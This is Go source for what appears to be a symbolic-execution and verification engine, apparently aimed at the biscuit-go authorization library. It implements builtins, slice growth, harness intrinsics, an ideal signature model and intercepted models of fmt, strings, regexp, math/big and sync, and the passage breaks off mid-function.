		switch x := args[0].(type) {
		case Slice:
			return uint64(x.cap)
		case ArrayV:
			return uint64(len(x.e))
		case *Pointer:
			return uint64(len(x.raw().(ArrayV).e))
		case *ChanV:
			if x == nil {
				return uint64(0)
			}
			return uint64(x.cap)
		}
	case "panic":
		panic(targetPanic{args[0]})
	case "recover":
		if caller != nil && caller.caller != nil && caller.caller.panicking {
			caller.caller.panicking = false
			p := caller.caller.panic
			caller.caller.panic = nil
			if tp, ok := p.(targetPanic); ok {
				return tp.v
			}
		}
		return Iface{}
	case "min", "max":
		sig := fn.Type().(*types.Signature)
		t := sig.Params().At(0).Type()
		res := args[0]
		for _, a := range args[1:] {
			var lt Value
			if fn.Name() == "min" {
				lt = ex.binop(token.LSS, t, a, res)
			} else {
				lt = ex.binop(token.GTR, t, a, res)
			}
			if ex.branch(lt) {
				res = a
			}
		}
		return res
	case "clear":
		switch x := args[0].(type) {
		case *MapV:
			if x != nil {
				x.entries = nil
			}
		case Slice:
			et := fn.Type().(*types.Signature).Params().At(0).Type().Underlying().(*types.Slice).Elem()
			for i := 0; i < x.len; i++ {
				x.elems()[x.off+i] = zero(et)
			}
		}
		return nil
	case "ssa:wrapnilchk":
		recv := args[0]
		if p, ok := recv.(*Pointer); ok && p == nil {
			panic(targetPanic{ex.rtError(fmt.Sprintf("value method %v.%v called using nil pointer", args[1], args[2]))})
		}
		return recv
	}
	panic(fmt.Sprintf("builtin %s on %T", fn.Name(), args[0]))
}

// appendOp implements append with gc's growth policy.
func (ex *Exec) appendOp(th *Thread, fn *ssa.Builtin, args []Value) Value {
	s := args[0].(Slice)
	var add []Value
	switch a := args[1].(type) {
	case Slice:
		if a.base != nil {
			add = a.elems()[a.off : a.off+a.len]
			ex.accessSlice(th, a, 0, a.len, false, nil)
		}
	case string, *SymStr:
		add = strBytes(a)
	default:
		panic(fmt.Sprintf("append of %T", a))
	}
	if len(add) == 0 {
		return s
	}
	sig := fn.Type().(*types.Signature)
	et := sig.Params().At(0).Type().Underlying().(*types.Slice).Elem()
	newLen := s.len + len(add)
	if newLen <= s.cap {
		tmp := make([]Value, len(add))
		for i := range add {
			tmp[i] = copyVal(add[i])
		}
		ex.accessSlice(th, Slice{base: s.base, off: s.off, len: newLen, cap: s.cap}, s.len, newLen, true, nil)
		copy(s.elems()[s.off+s.len:], tmp)
		return Slice{base: s.base, off: s.off, len: newLen, cap: s.cap}
	}
	newCap := growCap(s.cap, newLen, ex.P.sizeof(et))
	ns := ex.makeSlice(et, newLen, newCap)
	if s.base != nil {
		ex.accessSlice(th, s, 0, s.len, false, nil)
		for i := 0; i < s.len; i++ {
			ns.elems()[i] = copyVal(s.at(i))
		}
	}
	for i := range add {
		ns.elems()[s.len+i] = copyVal(add[i])
	}
	return ns
}

// growCap mirrors runtime.growslice (go1.20+): nextslicecap + roundupsize.
func growCap(oldCap, newLen int, elemSize int64) int {
	newcap := nextslicecap(newLen, oldCap)
	if elemSize == 0 {
		return newLen
	}
	mem := int64(newcap) * elemSize
	mem = roundupsize(mem, false)
	return int(mem / elemSize)
}

func nextslicecap(newLen, oldCap int) int {
	newcap := oldCap
	doublecap := newcap + newcap
	if newLen > doublecap {
		return newLen
	}
	const threshold = 256
	if oldCap < threshold {
		return doublecap
	}
	for {
		newcap += (newcap + 3*threshold) >> 2
		if uint(newcap) >= uint(newLen) {
			break
		}
	}
	if newcap <= 0 {
		return newLen
	}
	return newcap
}

var sizeClasses = []int64{0, 8, 16, 24, 32, 48, 64, 80, 96, 112, 128, 144, 160, 176, 192, 208, 224, 240, 256, 288, 320, 352, 384, 416, 448, 480, 512, 576, 640, 704, 768, 896, 1024, 1152, 1280, 1408, 1536, 1792, 2048, 2304, 2688, 3072, 3200, 3456, 4096, 4864, 5376, 6144, 6528, 6784, 6912, 8192, 9472, 9728, 10240, 10880, 12288, 13568, 14336, 16384, 18432, 19072, 20480, 21760, 24576, 27264, 28672, 32768}

func roundupsize(size int64, noscan bool) int64 {
	if size <= 32768-8 || size <= 32768 {
		for _, c := range sizeClasses {
			if c >= size {
				return c
			}
		}
	}
	// large: round to page size
	const page = 8192
	return (size + page - 1) / page * page
}

var _ = math.MaxInt64
