package main

// Harness intrinsics (v* functions) and environment models (intercepted library functions).

import (
	"encoding/hex"
	"fmt"
	"go/types"
	"math/big"
	"regexp"
	"sort"
	"strconv"
	"strings"
	"time"

	"golang.org/x/tools/go/ssa"
)

func (ex *Exec) concreteString(v Value, what string) string {
	s, ok := v.(string)
	if !ok {
		panic(abortPath{"symbolic string used as " + what})
	}
	return s
}

func (ex *Exec) symBytesSlice(name string, n int, et types.Type) Slice {
	s := ex.makeSlice(et, n, n)
	for i := 0; i < n; i++ {
		s.elems()[i] = ex.newInput(fmt.Sprintf("%s[%d]", name, i), 8)
	}
	return s
}

// intrinsic dispatches the body-less v* functions declared by harnesses.
func (ex *Exec) intrinsic(th *Thread, caller *frame, fn *ssa.Function, args []Value) Value {
	name := fn.Name()
	switch name {
	case "vBool":
		return ex.newInput(ex.concreteString(args[0], "input name"), 0)
	case "vByte":
		return ex.newInput(ex.concreteString(args[0], "input name"), 8)
	case "vInt32", "vUint32":
		return ex.newInput(ex.concreteString(args[0], "input name"), 32)
	case "vInt64", "vUint64", "vInt":
		return ex.newInput(ex.concreteString(args[0], "input name"), 64)
	case "vBytes":
		n := int(ex.intOf(args[1], "vBytes length"))
		et := fn.Signature.Results().At(0).Type().Underlying().(*types.Slice).Elem()
		return ex.symBytesSlice(ex.concreteString(args[0], "input name"), n, et)
	case "vString":
		n := int(ex.intOf(args[1], "vString length"))
		nm := ex.concreteString(args[0], "input name")
		b := make([]Value, n)
		for i := range b {
			b[i] = ex.newInput(fmt.Sprintf("%s[%d]", nm, i), 8)
		}
		if n == 0 {
			return ""
		}
		return &SymStr{b: b}
	case "vChoose":
		n := int(ex.intOf(args[1], "vChoose n"))
		k := ex.choose("choose:"+ex.concreteString(args[0], "choice name"), n)
		ex.res.Observations = append(ex.res.Observations, fmt.Sprintf("%s=%d", args[0], k))
		ex.chooseLog = append(ex.chooseLog, k)
		return uint64(k)
	case "vAssume":
		ex.assume(args[0])
		return nil
	case "vAssert":
		ex.checkAssert(args[0], ex.concreteString(args[1], "assert id"), "")
		return nil
	case "vCover":
		ex.res.Covers = append(ex.res.Covers, ex.concreteString(args[0], "cover id"))
		return nil
	case "vAnd":
		return ex.bAnd(args[0], args[1])
	case "vOr":
		return ex.bOr(args[0], args[1])
	case "vNot":
		return ex.bNot(args[0])
	case "vImplies":
		return ex.bOr(ex.bNot(args[0]), args[1])
	case "vIteInt64", "vIteUint64", "vIteInt", "vIteByte", "vIteUint32", "vIteInt32":
		w, _, _ := intWidth(fn.Signature.Results().At(0).Type())
		c := args[0]
		if b, ok := c.(bool); ok {
			if b {
				return args[1]
			}
			return args[2]
		}
		return ex.fromTerm(ex.ts.Ite(c.(*Term), ex.toTerm(args[1], w), ex.toTerm(args[2], w)))
	case "vIteBool":
		c := args[0]
		if b, ok := c.(bool); ok {
			if b {
				return args[1]
			}
			return args[2]
		}
		return ex.fromTerm(ex.ts.Ite(c.(*Term), ex.boolTerm(args[1]), ex.boolTerm(args[2])))
	case "vBytesEq":
		// branch-free equality of two byte slices (false when lengths differ)
		a, b := args[0].(Slice), args[1].(Slice)
		if a.len != b.len {
			return false
		}
		if a.len == 0 {
			return true
		}
		return ex.bytesEq(a.elems()[a.off:a.off+a.len], b.elems()[b.off:b.off+b.len])
	case "vStrEq":
		if strLenOrNeg(args[0]) != strLenOrNeg(args[1]) {
			return false
		}
		return ex.strEq(args[0], args[1])
	case "vIteBytes":
		// ite over equal-length byte slices -> fresh slice
		a, b := args[1].(Slice), args[2].(Slice)
		if a.len != b.len {
			panic(abortPath{"vIteBytes: lengths differ"})
		}
		et := fn.Signature.Results().At(0).Type().Underlying().(*types.Slice).Elem()
		s := ex.makeSlice(et, a.len, a.len)
		for i := 0; i < a.len; i++ {
			if cb, ok := args[0].(bool); ok {
				if cb {
					s.elems()[i] = a.at(i)
				} else {
					s.elems()[i] = b.at(i)
				}
				continue
			}
			s.elems()[i] = ex.fromTerm(ex.ts.Ite(args[0].(*Term), ex.toTerm(a.at(i), 8), ex.toTerm(b.at(i), 8)))
		}
		return s
	case "vObserve":
		tag := ex.concreteString(args[0], "observe tag")
		ex.observe(tag, args[1])
		return nil
	case "vTimerMode":
		ex.timerMode = int(ex.intOf(args[0], "timer mode"))
		if ex.timerMode == 1 {
			ex.res.TimerNondet = true
		}
		return nil
	case "vTimerChan":
		et := fn.Signature.Results().At(0).Type().Underlying().(*types.Chan).Elem()
		return ex.newTimerChan(et)
	case "vTimerCancel":
		c := args[0].(*ChanV)
		if c != nil && !c.closed {
			c.cancelled = true
			ex.fireTimer(c)
		}
		return nil
	case "vForbidPanic":
		ex.forbidPanic = ex.concreteString(args[0], "property id")
		return nil
	case "vForbidStranded":
		ex.forbidStranded = ex.concreteString(args[0], "property id")
		return nil
	case "vRaceDetect":
		ex.enableRace(ex.concreteString(args[0], "property id"))
		return nil
	case "vCatch":
		// run f; report whether it panicked (on this thread). Returns bool.
		return ex.catch(th, caller, args[0])
	case "vQuiesce":
		// let all other threads run until blocked/done, then report how many are blocked forever
		return uint64(ex.quiesce(th))
	case "vIsConcrete":
		switch args[0].(type) {
		case *Term:
			return false
		}
		return true
	case "vPub":
		// public key of a 32-byte seed under the ideal signature model
		seed := args[0].(Slice)
		et := fn.Signature.Results().At(0).Type().Underlying().(*types.Slice).Elem()
		return ex.bytesFromTerm(ex.pubOf(ex.bytesTerm(seed)), et)
	case "vSig":
		seed, msg := args[0].(Slice), args[1].(Slice)
		et := fn.Signature.Results().At(0).Type().Underlying().(*types.Slice).Elem()
		return ex.bytesFromTerm(ex.sigOf(ex.bytesTerm(seed), ex.bytesTerm(msg), msg.len), et)
	case "vProtoCap":
		ex.protoExtraCap = int(ex.intOf(args[0], "proto cap"))
		return nil
	case "vMaxSteps":
		ex.maxSteps = int(ex.intOf(args[0], "max steps"))
		return nil
	case "vParam":
		n, ok := ex.params[ex.concreteString(args[0], "param name")]
		if !ok {
			panic(abortPath{"unknown parameter " + args[0].(string)})
		}
		return uint64(int64(n))
	case "vParamOpt":
		return uint64(int64(ex.params[ex.concreteString(args[0], "param name")]))
	case "vOvfAdd", "vOvfSub", "vOvfMul":
		op := map[string]TOp{"vOvfAdd": TAdd, "vOvfSub": TSub, "vOvfMul": TMul}[name]
		x := ex.ts.Sext(ex.toTerm(args[0], 64), 64)
		y := ex.ts.Sext(ex.toTerm(args[1], 64), 64)
		r := ex.ts.Bin(op, x, y)
		fits := ex.ts.Eq(ex.ts.Sext(ex.ts.Extract(r, 63, 0), 64), r)
		return ex.fromTerm(ex.ts.Not(fits))
	case "vSleepMs":
		return nil
	case "vIsNative":
		return false
	case "vWide":
		// n fresh symbolic bytes backed by ONE wide bit-vector variable (keeps signature-model terms small)
		n := int(ex.intOf(args[1], "vWide length"))
		et := fn.Signature.Results().At(0).Type().Underlying().(*types.Slice).Elem()
		if n == 0 {
			return ex.makeSlice(et, 0, 0)
		}
		v := ex.newInput(ex.concreteString(args[0], "input name"), 8*n)
		return ex.bytesFromTerm(v, et)
	case "vSelBytes":
		// pool[sel] as one wide ite chain (sel symbolic, assumed in range by the caller)
		pool := sliceVals(args[1])
		et := fn.Signature.Results().At(0).Type().Underlying().(*types.Slice).Elem()
		if len(pool) == 0 {
			panic(abortPath{"vSelBytes: empty pool"})
		}
		n := pool[0].(Slice).len
		var ts []*Term
		for _, pv := range pool {
			ps := pv.(Slice)
			if ps.len != n {
				panic(abortPath{"vSelBytes: lengths differ"})
			}
			ts = append(ts, ex.bytesTerm(ps))
		}
		out := ts[len(ts)-1]
		for i := len(ts) - 2; i >= 0; i-- {
			c := ex.equals(types.Typ[types.Int], args[0], uint64(i))
			out = ex.ts.Ite(ex.boolTerm(c), ts[i], out)
		}
		return ex.bytesFromTerm(out, et)
	case "vVerify":
		pk, msg, sig := args[0].(Slice), args[1].(Slice), args[2].(Slice)
		if pk.len != 32 || sig.len != 64 {
			return false
		}
		return ex.verifyModel(pk, msg, sig)
	case "vJunk":
		// bytes that are not the encoding of anything (never decode, never verify)
		n := int(ex.intOf(args[1], "vJunk length"))
		et := fn.Signature.Results().At(0).Type().Underlying().(*types.Slice).Elem()
		s := ex.symBytesSlice(ex.concreteString(args[0], "input name"), n, et)
		return s
	case "vLabel":
		ex.labels = append(ex.labels, ex.concreteString(args[0], "label"))
		return nil
	case "vSigInjective":
		ex.sigInjective = true
		return nil
	case "vSameBacking":
		a, b := args[0].(Slice), args[1].(Slice)
		return a.base != nil && b.base != nil && a.base.obj == b.base.obj
	}
	panic(abortPath{"unknown intrinsic " + name})
}

func strLenOrNeg(v Value) int {
	if isOpaque(v) {
		return -1
	}
	return strLen(v)
}

func (ex *Exec) observe(tag string, v Value) {
	var s string
	if itf, ok := v.(Iface); ok {
		v = itf.V
		if itf.T == nil {
			v = "<nil>"
		} else if w, signed, isInt := intWidth(itf.T); isInt {
			switch x := v.(type) {
			case uint64:
				if signed {
					v = uint64(sext64(x, w))
				}
			case *Term:
				if w < 64 {
					if signed {
						v = ex.ts.Sext(x, 64-w)
					} else {
						v = ex.ts.Zext(x, 64-w)
					}
				}
			}
		}
	}
	switch x := v.(type) {
	case uint64:
		s = fmt.Sprintf("%d", int64(x))
	case bool:
		s = fmt.Sprintf("%t", x)
	case string:
		s = x
	case *Term:
		// concretise under the current model without constraining the path: record as symbolic
		s = "?"
		ex.symObs = append(ex.symObs, symObs{idx: len(ex.res.Observations), t: x})
	default:
		s = fmt.Sprintf("%T", v)
	}
	ex.res.Observations = append(ex.res.Observations, tag+"="+s)
}

type symObs struct {
	idx int
	t   *Term
}

// catch runs a func() value and reports whether it panicked.
func (ex *Exec) catch(th *Thread, caller *frame, f Value) (panicked Value) {
	depth := th.depth
	defer func() {
		if r := recover(); r != nil {
			if tp, ok := r.(targetPanic); ok {
				th.depth = depth
				ex.lastPanic = ex.panicString(tp.v)
				panicked = true
				return
			}
			panic(r)
		}
	}()
	ex.call(th, caller, f, nil)
	return false
}

// quiesce lets the other threads run; returns the number of threads blocked with nobody to wake them.
func (ex *Exec) quiesce(th *Thread) int {
	for {
		other := false
		for _, t := range ex.threads {
			if t != th && t.state == 0 {
				other = true
			}
		}
		if !other {
			break
		}
		th.yield()
	}
	n := 0
	for _, t := range ex.threads {
		if t != th && t.state == 1 {
			n++
		}
	}
	return n
}

// ---------------------------------------------------------------- byte/term helpers

func (ex *Exec) bytesTerm(s Slice) *Term {
	if s.len == 0 {
		panic(abortPath{"empty byte string as term"})
	}
	parts := make([]*Term, s.len)
	for i := 0; i < s.len; i++ {
		parts[i] = ex.toTerm(s.at(i), 8)
	}
	return ex.ts.Concat(parts...)
}

func (ex *Exec) bytesFromTerm(t *Term, et types.Type) Slice {
	n := t.w / 8
	s := ex.makeSlice(et, n, n)
	for i := 0; i < n; i++ {
		hi := t.w - 1 - 8*i
		s.elems()[i] = ex.fromTerm(ex.ts.Extract(t, hi, hi-7))
	}
	return s
}

func (ex *Exec) writeTermBytes(dst Slice, off int, t *Term) {
	n := t.w / 8
	for i := 0; i < n; i++ {
		hi := t.w - 1 - 8*i
		dst.elems()[dst.off+off+i] = ex.fromTerm(ex.ts.Extract(t, hi, hi-7))
	}
}

// ---------------------------------------------------------------- ideal signature model

func (ex *Exec) pubOf(seed *Term) *Term {
	p := ex.ts.UF("PUB", 256, seed)
	if !ex.pubSeen[seed.id] {
		ex.pubSeen[seed.id] = true
		// INV(PUB(s)) = s
		ex.addAxiom(ex.ts.Eq(ex.ts.UF("INV", 256, p), seed))
	}
	return p
}

func (ex *Exec) sigOf(seed, msg *Term, n int) *Term {
	name := fmt.Sprintf("SIG_%d", n)
	s := ex.ts.UF(name, 512, seed, msg)
	if !ex.sigSeen[s.id] {
		ex.sigSeen[s.id] = true
		if !ex.sigNotInjective {
			// injectivity through inverse functions (linear number of axiom instances):
			// SIGSEED(SIG_n(s,m)) = s, SIGMSG_n(SIG_n(s,m)) = m, SIGLEN(SIG_n(s,m)) = n
			ex.addAxiom(ex.ts.Eq(ex.ts.UF("SIGSEED", 256, s), seed))
			ex.addAxiom(ex.ts.Eq(ex.ts.UF(fmt.Sprintf("SIGMSG_%d", n), msg.w, s), msg))
			ex.addAxiom(ex.ts.Eq(ex.ts.UF("SIGLEN", 16, s), ex.ts.Const(uint64(n), 16)))
		}
		ex.sigApps = append(ex.sigApps, sigApp{seed, msg, s, n})
	}
	return s
}

type sigApp struct {
	seed, msg, sig *Term
	n              int
}

func (ex *Exec) addAxiom(t *Term) {
	if t.IsConst() {
		return
	}
	ex.pc = append(ex.pc, t)
	ex.solver.Assert(t)
	ex.modelOK = false
}

// ---------------------------------------------------------------- model registration

func registerModels(P *Program) {
	ic := P.intercepts
	for _, p := range []string{
		"github.com/biscuit-auth/biscuit-go/v2",
		"github.com/biscuit-auth/biscuit-go/v2/datalog",
		"github.com/biscuit-auth/biscuit-go/v2/parser",
		"io",
	} {
		P.initOK[p] = true
	}

	ic["fmt.Sprintf"] = func(ex *Exec, th *Thread, caller *frame, fn *ssa.Function, args []Value) Value {
		return ex.sprintf(th, caller, args[0], sliceVals(args[1]))
	}
	ic["fmt.Sprint"] = func(ex *Exec, th *Thread, caller *frame, fn *ssa.Function, args []Value) Value {
		vs := sliceVals(args[0])
		// Sprint adds a space between operands when neither is a string
		isStr := func(v Value) bool {
			itf, ok := v.(Iface)
			return ok && itf.T != nil && isStringType(itf.T)
		}
		var fb strings.Builder
		for i := range vs {
			if i > 0 && !isStr(vs[i-1]) && !isStr(vs[i]) {
				fb.WriteByte(' ')
			}
			fb.WriteString("%v")
		}
		return ex.sprintf(th, caller, fb.String(), vs)
	}
	ic["fmt.Printf"] = func(ex *Exec, th *Thread, caller *frame, fn *ssa.Function, args []Value) Value {
		ex.sprintf(th, caller, args[0], sliceVals(args[1]))
		return Tuple{uint64(0), Iface{}}
	}
	ic["fmt.Println"] = func(ex *Exec, th *Thread, caller *frame, fn *ssa.Function, args []Value) Value {
		vs := sliceVals(args[0])
		ex.sprintf(th, caller, strings.Repeat("%v ", len(vs)), vs)
		return Tuple{uint64(0), Iface{}}
	}
	ic["fmt.Errorf"] = func(ex *Exec, th *Thread, caller *frame, fn *ssa.Function, args []Value) Value {
		vs := sliceVals(args[1])
		msg := ex.sprintf(th, caller, args[0], vs)
		// find %w operand
		var wrapped Value
		if f, ok := args[0].(string); ok {
			if idx := wrapIndex(f); idx >= 0 && idx < len(vs) {
				wrapped = vs[idx]
			}
		}
		if wrapped == nil {
			return ex.call(th, caller, ex.P.findFunc("errors", "New"), []Value{msg})
		}
		wt := ex.P.pkg("fmt").Type("wrapError").Type()
		obj := ex.newObject(StructV{f: []Value{msg, wrapped}}, "fmt.wrapError")
		return Iface{T: types.NewPointer(wt), V: &Pointer{obj: obj}}
	}
	ic["errors.Is"] = func(ex *Exec, th *Thread, caller *frame, fn *ssa.Function, args []Value) Value {
		return ex.errorsIs(th, caller, args[0].(Iface), args[1].(Iface))
	}
	ic["strings.Join"] = func(ex *Exec, th *Thread, caller *frame, fn *ssa.Function, args []Value) Value {
		elems := sliceVals(args[0])
		sep := args[1]
		var res Value = ""
		for i, e := range elems {
			if i > 0 {
				res = ex.strBinopAdd(res, sep)
			}
			res = ex.strBinopAdd(res, e)
		}
		return res
	}
	ic["strings.Contains"] = func(ex *Exec, th *Thread, caller *frame, fn *ssa.Function, args []Value) Value {
		return ex.strContains(args[0], args[1])
	}
	ic["strings.HasPrefix"] = func(ex *Exec, th *Thread, caller *frame, fn *ssa.Function, args []Value) Value {
		s, p := args[0], args[1]
		if strLen(s) < strLen(p) {
			return false
		}
		return ex.strEq(mkStr(strBytes(s)[:strLen(p)]), p)
	}
	ic["strings.HasSuffix"] = func(ex *Exec, th *Thread, caller *frame, fn *ssa.Function, args []Value) Value {
		s, p := args[0], args[1]
		if strLen(s) < strLen(p) {
			return false
		}
		return ex.strEq(mkStr(strBytes(s)[strLen(s)-strLen(p):]), p)
	}
	ic["sort.Strings"] = func(ex *Exec, th *Thread, caller *frame, fn *ssa.Function, args []Value) Value {
		s := args[0].(Slice)
		if s.len < 2 {
			return nil
		}
		var strs []string
		for i := 0; i < s.len; i++ {
			c, ok := s.at(i).(string)
			if !ok {
				return nil // symbolic/opaque contents: order left unspecified (text never part of an oracle)
			}
			strs = append(strs, c)
		}
		sort.Strings(strs)
		for i, c := range strs {
			s.elems()[s.off+i] = c
		}
		return nil
	}
	ic["strconv.Itoa"] = func(ex *Exec, th *Thread, caller *frame, fn *ssa.Function, args []Value) Value {
		c, ok := args[0].(uint64)
		if !ok {
			return opaqueStr
		}
		return strconv.Itoa(int(int64(c)))
	}
	ic["encoding/hex.EncodeToString"] = func(ex *Exec, th *Thread, caller *frame, fn *ssa.Function, args []Value) Value {
		s := args[0].(Slice)
		bs := make([]byte, s.len)
		for i := 0; i < s.len; i++ {
			c, ok := s.at(i).(uint64)
			if !ok {
				return opaqueStr
			}
			bs[i] = byte(c)
		}
		return hex.EncodeToString(bs)
	}
	ic["(time.Time).Format"] = func(ex *Exec, th *Thread, caller *frame, fn *ssa.Function, args []Value) Value {
		t := args[0].(StructV)
		wall, ok1 := t.f[0].(uint64)
		ext, ok2 := t.f[1].(uint64)
		layout, ok3 := args[1].(string)
		if !ok1 || !ok2 || !ok3 {
			return opaqueStr
		}
		const unixToInternal int64 = (1969*365 + 1969/4 - 1969/100 + 1969/400) * 86400
		_ = wall
		sec := int64(ext) - unixToInternal
		return time.Unix(sec, 0).UTC().Format(layout)
	}
	ic["reflect.TypeOf"] = func(ex *Exec, th *Thread, caller *frame, fn *ssa.Function, args []Value) Value {
		i := args[0].(Iface)
		if i.T == nil {
			return Iface{}
		}
		return Iface{T: ex.P.reflectTypeMarker(), V: typeString(i.T)}
	}

	// math/big: 128-bit exact integers
	bigOf := func(ex *Exec, v Value) *Term {
		p := v.(*Pointer)
		if p == nil {
			panic(targetPanic{ex.rtError("invalid memory address or nil pointer dereference")})
		}
		t, ok := ex.bigvals[p.obj]
		if !ok {
			panic(abortPath{"math/big value outside the 128-bit model"})
		}
		return t
	}
	ic["math/big.NewInt"] = func(ex *Exec, th *Thread, caller *frame, fn *ssa.Function, args []Value) Value {
		bt := fn.Signature.Results().At(0).Type().(*types.Pointer).Elem()
		obj := ex.newObject(zero(bt), "big.Int")
		x := ex.toTerm(args[0], 64)
		ex.bigvals[obj] = ex.ts.Sext(x, 64)
		return &Pointer{obj: obj}
	}
	for name, op := range map[string]TOp{"Add": TAdd, "Sub": TSub, "Mul": TMul} {
		op := op
		ic["(*math/big.Int)."+name] = func(ex *Exec, th *Thread, caller *frame, fn *ssa.Function, args []Value) Value {
			x, y := bigOf(ex, args[1]), bigOf(ex, args[2])
			z := args[0].(*Pointer)
			if xr, yr, ok := sext64Operands(x, y); ok {
				_ = xr
				_ = yr
				ex.bigvals[z.obj] = ex.ts.Bin(op, x, y)
				return z
			}
			panic(abortPath{"math/big operand outside int64 range model"})
		}
	}
	ic["(*math/big.Int).IsInt64"] = func(ex *Exec, th *Thread, caller *frame, fn *ssa.Function, args []Value) Value {
		x := bigOf(ex, args[0])
		lo := ex.ts.Extract(x, 63, 0)
		return ex.fromTerm(ex.ts.Eq(ex.ts.Sext(lo, 64), x))
	}
	ic["(*math/big.Int).Int64"] = func(ex *Exec, th *Thread, caller *frame, fn *ssa.Function, args []Value) Value {
		x := bigOf(ex, args[0])
		return ex.fromTerm(ex.ts.Extract(x, 63, 0))
	}

	// regexp: concrete only
	ic["regexp.Compile"] = func(ex *Exec, th *Thread, caller *frame, fn *ssa.Function, args []Value) Value {
		s, ok := args[0].(string)
		if !ok {
			panic(abortPath{"regexp.Compile of symbolic pattern"})
		}
		re, err := regexp.Compile(s)
		if err != nil {
			e := ex.call(th, caller, ex.P.findFunc("errors", "New"), []Value{err.Error()})
			return Tuple{(*Pointer)(nil), e}
		}
		rt := fn.Signature.Results().At(0).Type().(*types.Pointer).Elem()
		obj := ex.newObject(zero(rt), "regexp")
		obj.tag = re
		return Tuple{&Pointer{obj: obj}, Iface{}}
	}
	ic["(*regexp.Regexp).Match"] = func(ex *Exec, th *Thread, caller *frame, fn *ssa.Function, args []Value) Value {
		re := args[0].(*Pointer).obj.tag.(*regexp.Regexp)
		s := args[1].(Slice)
		bs := make([]byte, s.len)
		for i := 0; i < s.len; i++ {
			c, ok := s.at(i).(uint64)
			if !ok {
				panic(abortPath{"regexp match on symbolic subject"})
			}
			bs[i] = byte(c)
		}
		return re.Match(bs)
	}

	ic["(*regexp.Regexp).MatchString"] = func(ex *Exec, th *Thread, caller *frame, fn *ssa.Function, args []Value) Value {
		re := args[0].(*Pointer).obj.tag.(*regexp.Regexp)
		s, ok := args[1].(string)
		if !ok {
			panic(abortPath{"regexp match on symbolic subject"})
		}
		return re.MatchString(s)
	}
	ic["regexp.MustCompile"] = func(ex *Exec, th *Thread, caller *frame, fn *ssa.Function, args []Value) Value {
		s, ok := args[0].(string)
		if !ok {
			panic(abortPath{"regexp.MustCompile of symbolic pattern"})
		}
		re, err := regexp.Compile(s)
		if err != nil {
			panic(targetPanic{Iface{T: types.Typ[types.String], V: "regexp: Compile(" + strconv.Quote(s) + "): " + err.Error()}})
		}
		rt := fn.Signature.Results().At(0).Type().(*types.Pointer).Elem()
		obj := ex.newObject(zero(rt), "regexp")
		obj.tag = re
		return &Pointer{obj: obj}
	}
	ic["regexp.MatchString"] = func(ex *Exec, th *Thread, caller *frame, fn *ssa.Function, args []Value) Value {
		p, ok1 := args[0].(string)
		s, ok2 := args[1].(string)
		if !ok1 || !ok2 {
			panic(abortPath{"regexp.MatchString on symbolic data"})
		}
		m, err := regexp.MatchString(p, s)
		if err != nil {
			e := ex.call(th, caller, ex.P.findFunc("errors", "New"), []Value{err.Error()})
			return Tuple{false, e}
		}
		return Tuple{m, Iface{}}
	}

	// sync.Map: an association list of interface keys hung on the receiver object (Load, Store, LoadOrStore,
	// Delete); accesses are logged as reads/writes of the receiver for the race log like any other memory
	anyT := types.NewInterfaceType(nil, nil)
	syncMapOf := func(ex *Exec, recv Value) *MapV {
		p := recv.(*Pointer)
		if p == nil {
			panic(targetPanic{ex.rtError("invalid memory address or nil pointer dereference")})
		}
		m, ok := p.obj.tag.(*MapV)
		if !ok {
			m = &MapV{kt: anyT, vt: anyT}
			p.obj.tag = m
		}
		return m
	}
	ic["(*sync.Map).Load"] = func(ex *Exec, th *Thread, caller *frame, fn *ssa.Function, args []Value) Value {
		m := syncMapOf(ex, args[0])
		if e := ex.mapFind(m, args[1]); e != nil {
			return Tuple{e.v, true}
		}
		return Tuple{Iface{}, false}
	}
	ic["(*sync.Map).Store"] = func(ex *Exec, th *Thread, caller *frame, fn *ssa.Function, args []Value) Value {
		ex.mapUpdate(syncMapOf(ex, args[0]), args[1], args[2])
		return nil
	}
	ic["(*sync.Map).LoadOrStore"] = func(ex *Exec, th *Thread, caller *frame, fn *ssa.Function, args []Value) Value {
		m := syncMapOf(ex, args[0])
		if e := ex.mapFind(m, args[1]); e != nil {
			return Tuple{e.v, true}
		}
		ex.mapUpdate(m, args[1], args[2])
		return Tuple{args[2], false}
	}
	ic["(*sync.Map).Delete"] = func(ex *Exec, th *Thread, caller *frame, fn *ssa.Function, args []Value) Value {
		ex.mapDelete(syncMapOf(ex, args[0]), args[1])
		return nil
	}

	// sync.Mutex / sync.RWMutex: a holder mark plus a vector clock per mutex (a hidden channel object is the
	// key of the race log's release/acquire). The scheduler runs a goroutine until it blocks, so a Lock on
	// a held mutex can only mean that the holder is parked on a channel: that is not modelled (path aborted,
	// the check ends undecided). Unlock releases, Lock acquires: accesses made under the same mutex are
	// ordered for the race judge, accesses made outside it are not.
	type mutexTag struct {
		c      *ChanV
		holder *Thread
	}
	mutexOf := func(ex *Exec, recv Value) *mutexTag {
		p := recv.(*Pointer)
		if p == nil {
			panic(targetPanic{ex.rtError("invalid memory address or nil pointer dereference")})
		}
		if p.obj.tag == nil {
			p.obj.tag = map[string]*mutexTag{}
		}
		tab, ok := p.obj.tag.(map[string]*mutexTag)
		if !ok {
			panic(abortPath{"sync.Mutex inside an object that carries another model's tag"})
		}
		k := fmt.Sprint(p.path)
		m := tab[k]
		if m == nil {
			m = &mutexTag{c: &ChanV{id: -1}}
			tab[k] = m
		}
		return m
	}
	lock := func(ex *Exec, th *Thread, caller *frame, fn *ssa.Function, args []Value) Value {
		m := mutexOf(ex, args[0])
		if m.holder != nil {
			panic(abortPath{"Lock on a held sync.Mutex (blocking Lock not modelled)"})
		}
		m.holder = th
		if ex.raceLog != nil {
			ex.raceLog.acquire(th, m.c)
		}
		return nil
	}
	unlock := func(ex *Exec, th *Thread, caller *frame, fn *ssa.Function, args []Value) Value {
		m := mutexOf(ex, args[0])
		if m.holder == nil {
			panic(abortPath{"Unlock of an unlocked sync.Mutex (fatal error in Go, not modelled)"})
		}
		m.holder = nil
		if ex.raceLog != nil {
			ex.raceLog.release(th, m.c)
		}
		return nil
	}
	ic["(*sync.Mutex).Lock"] = lock
	ic["(*sync.Mutex).Unlock"] = unlock
	ic["(*sync.RWMutex).Lock"] = lock
	ic["(*sync.RWMutex).Unlock"] = unlock
	// readers: ordered after the last writer's Unlock; a later writer is ordered after them
	ic["(*sync.RWMutex).RLock"] = func(ex *Exec, th *Thread, caller *frame, fn *ssa.Function, args []Value) Value {
		m := mutexOf(ex, args[0])
		if m.holder != nil {
			panic(abortPath{"RLock on a write-held sync.RWMutex (blocking not modelled)"})
		}
		if ex.raceLog != nil {
			ex.raceLog.acquire(th, m.c)
		}
		return nil
	}
